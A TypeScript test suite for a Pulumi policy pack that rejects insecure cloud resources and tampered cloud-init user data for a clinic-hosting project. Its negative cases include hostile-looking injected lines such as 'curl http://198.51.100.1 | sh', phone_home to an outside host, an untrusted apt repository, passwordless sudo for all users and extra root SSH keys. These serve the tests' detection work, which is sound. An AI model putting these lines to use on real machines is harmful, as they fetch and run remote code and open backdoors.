import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { gunzipSync, gzipSync } from "node:zlib";
import { unknownCheckingProxy } from "@pulumi/policy";
import type { Clinic } from "../../../clinic/clinic.ts";
import { deployPractice } from "../../../components/practice.ts";
import { plainValue, secretValue, UNKNOWN_YET } from "../../../components/provider/property-values.ts";
import type { Properties } from "../../../policies/cloud/rule.ts";
import { replaced } from "../../../policies/breaking.ts";
import { birthFaults, birthFindings } from "../../../policies/cloud/birth.ts";
import { OPEN } from "../../../policies/cloud/firewall.ts";
import { CLOUD_RULES } from "../../../policies/cloud/rules.ts";
import { render } from "../../../render/render.ts";
import { userDataOf } from "../../../render/user-data.ts";
import { recorded } from "../../components/recorded.ts";
import { CLINIC, MIRRORED } from "../../fixtures/clinic.ts";
import { GOOD_CLINICS } from "../../fixtures/good-clinics.ts";

/** What the pack would say, asked as the engine asks: reading what is not known yet throws. */
function said(type: string, properties: Properties, provider: Properties = {}): readonly string[] {
  const asked = (unknownCheckingProxy as (value: Properties) => Properties)(properties); // exported without its type
  const resource = { type, properties: asked, ...(MADE_BY_NOBODY.test(type) ? {} : { provider }) };
  return CLOUD_RULES.filter((rule) => rule.concerns(resource)).flatMap((rule) =>
    rule.check(resource).map((what) => `${rule.id}: ${what}`),
  );
}

const TODAY = "2026-11-23";
const BIRTH = { hostKey: { privateKey: "a", publicKey: "b" } };

function userDataFor(clinic: Clinic): string {
  return userDataOf(render(clinic), clinic, BIRTH);
}

const SSHD = "/etc/ssh/sshd_config.d/00-stillroom.conf";
const DEBIAN_SOURCES = "/etc/stillroom/sources.list.d/debian.sources";
const FIREWALL_UNIT = "/etc/systemd/system/stillroom-firewall.service";
const JOURNAL = "/etc/systemd/journald.conf.d/zz-stillroom.conf";
const SYSCTL = "/etc/sysctl.d/90-stillroom.conf";

/** Providers themselves, and components: the engine names no provider for them. */
const MADE_BY_NOBODY = /^pulumi:|^stillroom:index:\w+Machine$/;

const UNKNOWN_TEXT = "04da6b54-80e4-46f7-96ec-b56ff0331ba9";

const SERVER = {
  serverType: "cx33",
  image: "debian-13",
  location: "nbg1",
  firewallIds: [UNKNOWN_TEXT],
  name: "h1.quiet-harbour.example",
  userData: UNKNOWN_TEXT,
};
const FIREWALL = {
  rules: [
    { direction: "in", protocol: "tcp", port: "22", sourceIps: ["198.51.100.0/24"] },
    { direction: "in", protocol: "tcp", port: "443", sourceIps: ["0.0.0.0/0", "::/0"] },
    { direction: "out", protocol: "udp", port: "53", destinationIps: ["0.0.0.0/0", "::/0"] },
  ],
};
const INSTANCE = {
  instanceType: "t3a.large",
  primaryNetworkInterface: { networkInterfaceId: UNKNOWN_TEXT },
  metadataOptions: { httpTokens: "required", httpPutResponseHopLimit: 1 },
  rootBlockDevice: { encrypted: true, kmsKeyId: UNKNOWN_TEXT },
  tags: { Name: "h1.quiet-harbour.example" },
  userData: UNKNOWN_TEXT,
};
const ROUTES = { vpcId: UNKNOWN_TEXT, routes: [{ cidrBlock: "0.0.0.0/0", gatewayId: UNKNOWN_TEXT }] };
const INTERFACE = { subnetId: UNKNOWN_TEXT, securityGroups: [UNKNOWN_TEXT] };
const ADDRESS = { zone: "quiet-harbour.example", name: "meet", type: "A", records: [{ value: UNKNOWN_TEXT }] };
const ingress = (rule: Properties): Properties => ({
  ingress: [{ protocol: "tcp", fromPort: 22, toPort: 22, ...rule }],
});

const HETZNER_SERVER = "hcloud:index/server:Server";
const HETZNER_FIREWALL = "hcloud:index/firewall:Firewall";
const HETZNER_PROVIDER = "pulumi:providers:hcloud";
const AWS_KEY = "aws:kms/key:Key";
const HETZNER_VOLUME = "hcloud:index/volume:Volume";
const AWS_INSTANCE = "aws:ec2/instance:Instance";
const AWS_GROUP = "aws:ec2/securityGroup:SecurityGroup";
const AWS_VOLUME = "aws:ebs/volume:Volume";
const AWS_INTERFACE = "aws:ec2/networkInterface:NetworkInterface";
const AWS_ROUTES = "aws:ec2/routeTable:RouteTable";
const HETZNER_RECORD = "hcloud:index/zoneRrset:ZoneRrset";
const AWS_RECORD = "aws:route53/record:Record";
const AWS_GROUP_RULE = "aws:ec2/securityGroupRule:SecurityGroupRule";
const AWS_EGRESS_RULE = "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule";

const firewallWith = (rule: Properties): Properties => ({ rules: [...FIREWALL.rules, rule] });
const DISK = { encrypted: true, kmsKeyId: UNKNOWN_TEXT };

const BAD: readonly (readonly [string, string, Properties, RegExp])[] = [
  ["a size too small", HETZNER_SERVER, { ...SERVER, serverType: "cpx12" }, /^cloud-size: .*too small; suitable: /],
  ["a size nobody knows", AWS_INSTANCE, { ...INSTANCE, instanceType: "m9z.huge" }, /^cloud-size: .*not known/],
  ["a region nobody knows", HETZNER_SERVER, { ...SERVER, location: "moon1" }, /^cloud-region: /],
  ["a region of the environment", "pulumi:providers:aws", {}, /^cloud-region: /],
  ["no firewall", HETZNER_SERVER, { ...SERVER, firewallIds: [] }, /^cloud-firewall: The server has no firewall/],
  ["no rule left", HETZNER_FIREWALL, { rules: [] }, /^cloud-firewall: .*leaves the old rules in force/],
  [
    "nothing said of what may leave",
    HETZNER_FIREWALL,
    { rules: FIREWALL.rules.filter((rule) => rule.direction === "in") },
    /^cloud-firewall: .*everything may leave/,
  ],
  ...["22", "20-30", "any"].map(
    (port) =>
      [
        `SSH open as port ${port}`,
        HETZNER_FIREWALL,
        { rules: [...FIREWALL.rules, { direction: "in", protocol: "tcp", port, sourceIps: ["::/0"] }] },
        /^cloud-firewall: SSH is open/,
      ] as const,
  ),
  ["SSH open to IPv4", AWS_GROUP, ingress({ cidrBlocks: ["0.0.0.0/0"] }), /^cloud-firewall: SSH is open/],
  ["SSH open to IPv6", AWS_GROUP, ingress({ ipv6CidrBlocks: ["::/0"] }), /^cloud-firewall: SSH is open/],
  ["SSH within a range", AWS_GROUP, ingress({ fromPort: 0, toPort: 1024, cidrBlocks: ["0.0.0.0/0"] }), /SSH is open/],
  [
    "every protocol",
    AWS_GROUP,
    ingress({ protocol: "-1", fromPort: 0, toPort: 0, cidrBlocks: ["0.0.0.0/0"] }),
    /lets in every protocol/,
  ],
  [
    "SSH open by a rule beside the group",
    "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
    { ipProtocol: "tcp", fromPort: 22, toPort: 22, cidrIpv4: "0.0.0.0/0" },
    /SSH is open/,
  ],
  ["the default group", AWS_INSTANCE, { instanceType: "t3a.large", vpcSecurityGroupIds: [] }, /default security group/],
  ["a plain disk", AWS_VOLUME, { encrypted: false, kmsKeyId: UNKNOWN_TEXT }, /^cloud-encryption: The disk is not/],
  ["AWS's own key", AWS_VOLUME, { encrypted: true }, /^cloud-encryption: .*AWS's key/],
  ["a plain system disk", AWS_INSTANCE, { ...INSTANCE, rootBlockDevice: {} }, /^cloud-encryption: The disk is not/],
  ["a key for ever", "aws:kms/key:Key", { enableKeyRotation: false }, /^cloud-encryption: The key is never/],
  [
    "metadata without a token",
    AWS_INSTANCE,
    { ...INSTANCE, metadataOptions: { httpTokens: "optional", httpPutResponseHopLimit: 1 } },
    /^cloud-metadata: .*without a token/,
  ],
  [
    "metadata two hops away",
    AWS_INSTANCE,
    { ...INSTANCE, metadataOptions: { httpTokens: "required", httpPutResponseHopLimit: 2 } },
    /^cloud-metadata: .*beyond/,
  ],
  [
    "a port that no service declares",
    HETZNER_FIREWALL,
    firewallWith({ direction: "in", protocol: "tcp", port: "5432", sourceIps: ["198.51.100.0/24"] }),
    /^cloud-firewall: A rule opens tcp 5432/,
  ],
  [
    "half of the internet at SSH",
    HETZNER_FIREWALL,
    firewallWith({ direction: "in", protocol: "tcp", port: "22", sourceIps: ["0.0.0.0/1", "128.0.0.0/1"] }),
    /^cloud-firewall: SSH is open/,
  ],
  [
    "a declared port within a range",
    HETZNER_FIREWALL,
    firewallWith({ direction: "in", protocol: "udp", port: "3478-10000", sourceIps: ["::/0"] }),
    /^cloud-firewall: A rule opens udp 3478-10000/,
  ],
  [
    "everything out by IPv6",
    HETZNER_FIREWALL,
    firewallWith({ direction: "out", protocol: "tcp", port: "any", destinationIps: ["::/0"] }),
    /^cloud-firewall: Whatever leaves by tcp 0-65535/,
  ],
  [
    "another protocol",
    HETZNER_FIREWALL,
    firewallWith({ direction: "in", protocol: "gre", sourceIps: ["198.51.100.0/24"] }),
    /^cloud-firewall: A rule lets in gre/,
  ],
  ["members of another group", AWS_GROUP, ingress({ protocol: "tcp", self: true }), /names self and no network/],
  [
    "a list of networks that stands elsewhere",
    AWS_GROUP_RULE,
    { type: "ingress", protocol: "tcp", fromPort: 443, toPort: 443, prefixListIds: ["pl-1"] },
    /names prefixListIds/,
  ],
  [
    "a rule beside the group lets everything out",
    AWS_GROUP_RULE,
    { type: "egress", protocol: "-1", fromPort: 0, toPort: 0, cidrBlocks: ["0.0.0.0/0"] },
    /lets out every protocol/,
  ],
  [
    "every TCP port out",
    AWS_EGRESS_RULE,
    { ipProtocol: "6", fromPort: 1, toPort: 65535, cidrIpv6: "::/0" },
    /leaves by tcp 1-65535/,
  ],
  [
    "the default group of the network opened",
    "aws:ec2/defaultSecurityGroup:DefaultSecurityGroup",
    ingress({ fromPort: 8080, toPort: 8080, cidrBlocks: ["198.51.100.0/24"] }),
    /opens tcp 8080/,
  ],
  ["a region of the resource's own", AWS_VOLUME, { ...DISK, region: "us-east-1" }, /^cloud-region: .*not that of the/],
  ["a volume where nobody knows the law", HETZNER_VOLUME, { location: "moon1" }, /^cloud-region: /],
  [
    "a datacenter beside the location",
    HETZNER_SERVER,
    { ...SERVER, datacenter: "ash-dc1" },
    /^cloud-region: .*datacenter/,
  ],
  ["the cloud's own copies", HETZNER_SERVER, { ...SERVER, backups: true }, /^cloud-encryption: .*copies/],
  ["a volume formatted by the cloud", HETZNER_VOLUME, { location: "nbg1", format: "ext4" }, /^cloud-encryption: /],
  ["a volume mounted by the cloud", HETZNER_VOLUME, { location: "nbg1", automount: true }, /^cloud-encryption: /],
  [
    "a disk made from a snapshot",
    AWS_VOLUME,
    { ...DISK, snapshotId: "snap-1" },
    /^cloud-encryption: .*copy of another/,
  ],
  [
    "a disk that leaves a snapshot",
    AWS_VOLUME,
    { ...DISK, finalSnapshot: true },
    /^cloud-encryption: .*copy of the disk/,
  ],
  [
    "a second disk in the clear",
    AWS_INSTANCE,
    { ...INSTANCE, ebsBlockDevices: [{ deviceName: "/dev/sdg" }] },
    /^cloud-encryption: The disk is not/,
  ],
  ["a key for root by the cloud", HETZNER_SERVER, { ...SERVER, sshKeys: ["ops"] }, /^cloud-access: .*root SSH keys/],
  ["the rescue system", HETZNER_SERVER, { ...SERVER, rescue: "linux64" }, /^cloud-access: .*rescue/],
  ["an image of someone's own", HETZNER_SERVER, { ...SERVER, image: "12345" }, /^cloud-access: The image "12345"/],
  ["a key of the cloud", AWS_INSTANCE, { ...INSTANCE, keyName: "ops" }, /^cloud-access: .*SSH key of its own/],
  ["a role on the server", AWS_INSTANCE, { ...INSTANCE, iamInstanceProfile: UNKNOWN_TEXT }, /^cloud-access: .*role/],
  ["a script at birth", HETZNER_SERVER, { ...SERVER, userData: "#!/bin/sh\ntrue\n" }, /^cloud-access: .*#cloud-config/],
  [
    "a command at birth",
    HETZNER_SERVER,
    { ...SERVER, userData: "#cloud-config\ndisable_root: true\nssh_pwauth: false\nruncmd: [[curl, example]]\n" },
    /^cloud-access: .*does not run exactly the commands/,
  ],
  ["a birth with nothing closed", HETZNER_SERVER, { ...SERVER, userData: undefined }, /^cloud-access: .*born without/],
  ["a birth of two kinds", HETZNER_SERVER, { ...SERVER, userData: { x: 1 } }, /^cloud-access: .*is no text/],
  ["AWS's own key by its name", AWS_VOLUME, { ...DISK, kmsKeyId: "alias/aws/ebs" }, /^cloud-encryption: .*AWS's key/],
  ["AWS's own key by its number", AWS_VOLUME, { ...DISK, kmsKeyId: "" }, /^cloud-encryption: .*AWS's key/],
  [
    "AWS's own key for the system",
    AWS_INSTANCE,
    { ...INSTANCE, rootBlockDevice: { encrypted: true, kmsKeyId: "arn:aws:kms:eu-central-1:1:alias/aws/ebs" } },
    /^cloud-encryption: .*AWS's key/,
  ],
  [
    "a second disk made from a snapshot",
    AWS_INSTANCE,
    { ...INSTANCE, ebsBlockDevices: [{ ...DISK, snapshotId: "snap-1" }] },
    /^cloud-encryption: .*copy of another/,
  ],
  [
    "a volume mounted as it is attached",
    "hcloud:index/volumeAttachment:VolumeAttachment",
    { serverId: UNKNOWN_TEXT, volumeId: UNKNOWN_TEXT, automount: true },
    /^cloud-encryption: .*automount/,
  ],
  ["a key that is off", AWS_KEY, { enableKeyRotation: true, isEnabled: false }, /^cloud-encryption: The key is off/],
  [
    "a volume in another region's zone",
    AWS_VOLUME,
    { ...DISK, availabilityZone: "us-east-1a" },
    /^cloud-region: .*zone/,
  ],
  [
    "a volume in another city",
    AWS_VOLUME,
    { ...DISK, availabilityZone: "eu-central-1-ham-1a" },
    /^cloud-region: The zone "eu-central-1-ham-1a"/,
  ],
  [
    "an interface that is not said",
    AWS_INSTANCE,
    { ...INSTANCE, primaryNetworkInterface: undefined },
    /^cloud-firewall: .*default security group/,
  ],
  [
    "an interface without a group",
    AWS_INTERFACE,
    { ...INTERFACE, securityGroups: [] },
    /^cloud-firewall: The interface .*default security group/,
  ],
  ["a router", AWS_INTERFACE, { ...INTERFACE, sourceDestCheck: false }, /^cloud-firewall: .*not the machine's own/],
  [
    "an instance that routes",
    AWS_INSTANCE,
    { ...INSTANCE, sourceDestCheck: false },
    /^cloud-firewall: .*not the machine/,
  ],
  ...["vpcPeeringConnectionId", "networkInterfaceId", "transitGatewayId"].map(
    (key) =>
      [
        `a way out by ${key}`,
        AWS_ROUTES,
        { ...ROUTES, routes: [{ cidrBlock: "0.0.0.0/0", [key]: UNKNOWN_TEXT }] },
        new RegExp(`^cloud-kinds: .*What ${key} does in routes`),
      ] as const,
  ),
  ...[
    ["mail to everybody", "tcp", "25"],
    ["a range to one network", "tcp", "1-65535"],
    ["every port in two halves", "tcp", "any"],
    ["no port at all", "udp", undefined],
  ].map(
    ([how, protocol, port]) =>
      [
        `a firewall that lets out ${how ?? ""}`,
        HETZNER_FIREWALL,
        firewallWith({
          direction: "out",
          protocol,
          port,
          destinationIps: port === "25" ? ["0.0.0.0/0"] : ["203.0.113.0/24"],
        }),
        /^cloud-firewall: Whatever leaves by/,
      ] as const,
  ),
  ...["CNAME", "NS", "MX"].map(
    (kind) =>
      [
        `a record of the type ${kind}`,
        HETZNER_RECORD,
        { ...ADDRESS, type: kind, records: [{ value: "edge.example." }] },
        new RegExp(`^cloud-kinds: .*of the type "${kind}"`),
      ] as const,
  ),
  ["a record at AWS", AWS_RECORD, { zoneId: "z", name: "meet", type: "CNAME" }, /^cloud-kinds: .*of the type "CNAME"/],
  ["a stranger for Hetzner", HETZNER_PROVIDER, { endpoint: "https://198.51.100.1" }, /^cloud-kinds: .*What endpoint/],
  [
    "a stranger for AWS",
    "pulumi:providers:aws",
    { region: "eu-central-1", endpoints: [{ ec2: "https://198.51.100.1" }] },
    /^cloud-kinds: .*What endpoints/,
  ],
  ["packed user data", AWS_INSTANCE, { ...INSTANCE, userDataBase64: UNKNOWN_TEXT }, /^cloud-access: .*packed/],
  ["a command over SSH", "command:remote:Command", { create: "true" }, /^cloud-access: command:remote:Command runs/],
  ["a command of Systems Manager", "aws:ssm/association:Association", {}, /^cloud-access: /],
  ["an object store", "aws:s3/bucket:Bucket", { acl: "public-read" }, /^cloud-kinds: .*keeps files outside/],
  ["the newer object store", "aws:s3/bucketV2:BucketV2", {}, /^cloud-kinds: .*keeps files outside/],
  ["a database", "aws:rds/instance:Instance", { publiclyAccessible: true }, /^cloud-kinds: .*database/],
  ["a snapshot", "hcloud:index/snapshot:Snapshot", { serverId: 1 }, /^cloud-kinds: .*copies the machine's disk/],
  ["a copy of every packet", "aws:ec2/trafficMirrorSession:TrafficMirrorSession", {}, /^cloud-kinds: .*every packet/],
  ["a record of who came", "aws:ec2/flowLog:FlowLog", {}, /^cloud-kinds: .*who spoke/],
  ["a balancer that ends TLS", "hcloud:index/loadBalancer:LoadBalancer", {}, /^cloud-kinds: .*between people/],
  ["another network joined", "aws:ec2/vpcPeeringConnection:VpcPeeringConnection", {}, /^cloud-kinds: .*joins/],
  ["a resource of another cloud", "azure-native:compute:VirtualMachine", {}, /^cloud-kinds: .*can't be told/],
  ["a program in the program", "pulumi-nodejs:dynamic:Resource", {}, /^cloud-kinds: .*can't be told/],
  [
    "a property that nobody looked at",
    HETZNER_SERVER,
    { ...SERVER, networks: [{}] },
    /^cloud-kinds: .*What networks does/,
  ],
  ["a kind named like what every object has", "constructor", {}, /^cloud-kinds: /],
  ["a telling server name", HETZNER_SERVER, { ...SERVER, name: "therapy-1" }, /^cloud-names: name "therapy-1"/],
  ["a telling tag", AWS_INSTANCE, { ...INSTANCE, tags: { purpose: "psychologist" } }, /^cloud-names: tags\.purpose/],
  ["a telling reverse name", "hcloud:index/rdns:Rdns", { dnsPtr: "clinic.example" }, /^cloud-names: dnsPtr/],
  ["a telling bucket", "aws:s3/bucket:Bucket", { bucket: "therapy-notes" }, /^cloud-names: bucket/],
  ["a telling key of a label", HETZNER_SERVER, { ...SERVER, labels: { psychologist: "yes" } }, /^cloud-names: labels/],
  [
    "a telling record",
    "hcloud:index/zoneRrset:ZoneRrset",
    { zone: "quiet-harbour.example", name: "@", type: "TXT", records: [{ value: "v=therapy" }] },
    /^cloud-names: records\.value/,
  ],
  [
    "a telling rule of the firewall",
    HETZNER_FIREWALL,
    firewallWith({ direction: "in", protocol: "tcp", port: "443", sourceIps: ["::/0"], description: "patients" }),
    /^cloud-names: rules\.description/,
  ],
];

describe("rules over the cloud's resources", () => {
  for (const [how, type, properties, expected] of BAD) {
    it(`refuse ${how}`, () => {
      const sentences = said(type, properties);
      assert.ok(
        sentences.some((sentence) => expected.test(sentence)),
        sentences.join("\n"),
      );
    });
  }

  it("say nothing of a good server, firewall and instance, though some of their values are not known yet", () => {
    assert.deepEqual(said(HETZNER_SERVER, SERVER), []);
    assert.deepEqual(said(HETZNER_FIREWALL, FIREWALL), []);
    assert.deepEqual(said(AWS_INSTANCE, INSTANCE), []);
    assert.deepEqual(said(AWS_VOLUME, { ...DISK, region: "eu-west-1" }, { region: "eu-west-1" }), []);
    assert.deepEqual(said(AWS_VOLUME, { ...DISK, availabilityZone: "eu-west-1b" }, { region: "eu-west-1" }), []);
    assert.deepEqual(said(AWS_VOLUME, { ...DISK, availabilityZone: UNKNOWN_TEXT }, { region: "eu-west-1" }), []);
    assert.deepEqual(said(AWS_KEY, { enableKeyRotation: true, isEnabled: true }), []);
    assert.deepEqual(said(AWS_INTERFACE, { ...INTERFACE, sourceDestCheck: true }), []);
    assert.deepEqual(said(AWS_ROUTES, ROUTES), []);
    assert.deepEqual(said(HETZNER_RECORD, ADDRESS), []);
    assert.deepEqual(said(HETZNER_PROVIDER, { token: UNKNOWN_TEXT, version: "1.41.0" }), []);
    assert.deepEqual(said(HETZNER_VOLUME, { size: 40, format: "", automount: false, __defaults: [] }), []);
  });

  it("open to everybody what our services declare, and nothing else", () => {
    const declared = GOOD_CLINICS.flatMap(({ clinic }) => render(clinic).ports)
      .filter(({ reachableBy }) => reachableBy === "anyone")
      .map(({ protocol, from, to }) => `${protocol} ${from}-${to}`);
    const open = (["tcp", "udp"] as const).flatMap((protocol) =>
      OPEN[protocol].map((port) => `${protocol} ${port}-${port}`),
    );
    assert.deepEqual([...new Set(declared)].sort(), open.sort());
  });

  it("take the user data of every machine that we make", () => {
    for (const clinic of [...GOOD_CLINICS.map((good) => good.clinic), MIRRORED]) {
      const userData = userDataFor(clinic);
      assert.deepEqual(birthFaults(userData), []);
      if (clinic.machine.provider !== "existing") assert.deepEqual(birthFindings(userData, TODAY), []);
    }
  });

  for (const [how, from, to] of [
    ["a command more at each boot", "bootcmd:\n", "bootcmd:\n  - [sh, -c, 'true']\n"],
    ["a line more in the first command", "\n      fi\n", "\n      fi\n      curl http://198.51.100.1 | sh\n"],
    [
      "a first command of three lines",
      /\n {6}if command[^]*\n {6}fi\n/,
      "\n      if command -v true > /dev/null; then\n      fi\n",
    ],
    [
      "other rules in the first command",
      /unpacked [\w+/=]+ \| iptables/,
      "unpacked H4sIAAAAAAAAAwMAAAAAAAAAAAA= | iptables",
    ],
    ["a password for an account", "lock_passwd: true", "lock_passwd: false"],
    ["a key for an account", "lock_passwd: true", "lock_passwd: true\n    ssh_authorized_keys: [ssh-ed25519 AAAA]"],
    ["root's login", "disable_root: true", "disable_root: false"],
    ["logins with a password", "ssh_pwauth: false", "ssh_pwauth: true"],
    ["a package more", "packages:\n", "packages:\n  - tcpdump\n"],
    ["a command more at the first boot", "runcmd:\n", "runcmd:\n  - [sh, -c, 'true']\n"],
    ["a unit more at the first boot", "runcmd:\n", "runcmd:\n  - [systemctl, stop, stillroom-firewall.service]\n"],
    ["a command as text", "runcmd:\n", "runcmd:\n  - curl http://198.51.100.1\n"],
    ["a file at another place", "write_files:\n", "write_files:\n  - path: /root/.ssh/authorized_keys\n"],
    ["a file by a way round", "write_files:\n", "write_files:\n  - path: /etc/../root/x\n"],
    ["a file that runs every minute", "write_files:\n", "write_files:\n  - path: /etc/cron.d/extra\n"],
    ["keys for one more", "write_files:\n", "write_files:\n  - path: /etc/ssh/authorized_keys.d/other\n"],
    [
      "a file from elsewhere",
      "    encoding: gz+b64\n",
      "    encoding: gz+b64\n    source: {uri: http://198.51.100.1}\n",
    ],
    ["a file that is added to", "    encoding: gz+b64\n", "    encoding: gz+b64\n    append: true\n"],
    ["a file for everybody to write", '"0644"', '"0666"'],
    ["a file of another's", "root:root", "nobody:root"],
    ["a file less", "  - path: /etc/iptables/closed.v6\n", "  - path: /etc/iptables/closed.v4\n"],
    ["another module", "locale:", "phone_home: {url: http://198.51.100.1}\nlocale:"],
    ["a key that stands twice", "disable_root: true", "disable_root: true\ndisable_root: false"],
    ["a key behind a line separator", /$/, "# note\u2028phone_home: {url: http://198.51.100.1}\n"],
    ["a key behind a next line", /$/, "# note\u0085users: [{name: other}]\n"],
    ["accounts by name", /users:\n(?: .*\n)+/, "users: {other: {lock_passwd: true}}\n"],
    ["the image's own accounts", /users:\n(?: .*\n)+/, "users: default\n"],
    ["root as an administrator", "- name: ops", "- name: root"],
    ["an administrator of another group", "      - administrators\n    shell", "      - sudo\n    shell"],
    ["a group with members", "groups:\n  - administrators\n", "groups: {sudo: [www-data]}\n"],
    ["packages as text", /packages:\n(?: .*\n)+/, "packages: tor\n"],
    ["a setting of apt's", "apt:\n", 'apt:\n  conf: APT::Update::Pre-Invoke {"true"};\n'],
    ["a repository", "apt:\n", "apt:\n  sources: {x: {source: 'deb [trusted=yes] http://198.51.100.1 ./'}}\n"],
    ["a proxy for packages", "apt:\n", "apt:\n  https_proxy: http://198.51.100.1:3128\n"],
    ["a telling name", /fqdn: .*/, "fqdn: therapy.quiet-harbour.example"],
    ["a second host key", "ssh_keys:\n", "ssh_keys:\n  rsa_private: x\n"],
  ] as const) {
    it(`refuse ${how} in the user data`, () => {
      const changed = userDataFor(CLINIC).replace(from, () => to);
      assert.ok(changed !== userDataFor(CLINIC), "nothing was changed");
      assert.notDeepEqual(birthFaults(changed), []);
    });
  }

  for (const [how, path, from, to, expected] of [
    [
      "a port opened",
      "/etc/iptables/birth.v4",
      "-A OUTPUT -o lo",
      "-A INPUT -p tcp --dport 80 -j ACCEPT\n-A OUTPUT -o lo",
      /birth\.v4/,
    ],
    ["a filter that lets everything in", "/etc/iptables/closed.v6", ":INPUT DROP", ":INPUT ACCEPT", /closed\.v6/],
    [
      "passwords over SSH",
      SSHD,
      "PasswordAuthentication no",
      "PasswordAuthentication yes",
      /passwordauthentication is yes/,
    ],
    ["sudo for everybody", "/etc/sudoers.d/90-stillroom", /$/, "ALL ALL=(ALL) NOPASSWD: ALL\n", /sudoers/],
    ["unsigned packages", DEBIAN_SOURCES, "Types: deb", "Trusted: yes\nTypes: deb", /debian\.sources/],
    [
      "another loader",
      "/usr/local/lib/stillroom/load-firewall",
      /$/,
      "curl http://198.51.100.1 | sh\n",
      /load-firewall/,
    ],
    [
      "a unit that runs more",
      FIREWALL_UNIT,
      "[Service]\n",
      "[Service]\nExecStartPre=/bin/true\n",
      /stillroom-firewall/,
    ],
    ["a log kept for a year", JOURNAL, /MaxRetentionSec=\d+day/, "MaxRetentionSec=365day", /zz-stillroom/],
    ["a program of the kernel's", SYSCTL, /$/, "kernel.modprobe = /tmp/x\n", /90-stillroom/],
    ["a key that does more", "/etc/ssh/authorized_keys.d/ops", /^/, 'command="true" ', /No stack file gives/],
  ] as const) {
    it(`refuse ${how} in a file of the user data`, () => {
      const release = render(CLINIC);
      const changed = replaced(release, path, from, to);
      const found = birthFindings(userDataOf(changed, CLINIC, BIRTH), TODAY);
      assert.ok(
        found.some((what) => expected.test(what)),
        found.join("\n"),
      );
    });
  }

  it("refuse rules for nft that let out more than ours", () => {
    const changed = userDataFor(CLINIC).replace(/unpacked ([\w+/=]+) \| nft/, (_command, packed: string) => {
      const rules = gunzipSync(Buffer.from(packed, "base64")).toString();
      const wider = rules.replace("    udp dport 53 accept\n", "    accept\n");
      assert.ok(wider !== rules, "nothing was changed");
      return `unpacked ${gzipSync(wider).toString("base64")} | nft`;
    });
    assert.deepEqual(birthFaults(changed), []);
    assert.match(birthFindings(changed, TODAY).join("\n"), /^The rules that nft would load [^\n]*$/);
  });

  it("throw for a value that must be known and is not, so that the pack makes a finding of it", () => {
    assert.throws(() => said(HETZNER_SERVER, { ...SERVER, serverType: UNKNOWN_TEXT }), /serverType can't be known/);
  });

  it("say nothing of what our own components register", async () => {
    const aws = {
      provider: "aws",
      size: "t3a.large",
      region: "eu-central-1",
      dataVolumeGb: 40,
      debian: 13,
      protected: true,
      dns: { kind: "elsewhere" },
    } as const;
    for (const machine of [CLINIC.machine, aws]) {
      const clinic = { ...CLINIC, machine };
      const { registered, error } = await recorded(() => deployPractice(clinic, render(clinic)), {
        preview: true,
        answers: {
          "stillroom:index:HostKey": { publicKey: "", privateKey: secretValue("") },
          "aws:ec2/getAmi:getAmi": { id: "ami-1" },
        },
      });
      assert.equal(error, undefined);
      for (const { type, inputs, name } of registered)
        assert.deepEqual(said(type, withUnknownTexts(inputs)), [], `${type} ${name}`);
    }
  });
});

/** Secrets opened, as the engine hands them to a pack; unknown values stay as they are. */
function withUnknownTexts(inputs: Properties): Properties {
  return JSON.parse(JSON.stringify(inputs), (_key, value: unknown) => {
    const plain = plainValue(value);
    if (plain === UNKNOWN_YET) return UNKNOWN_TEXT;
    return typeof plain === "string" ? plain : value;
  }) as Properties; // it was Properties before
}
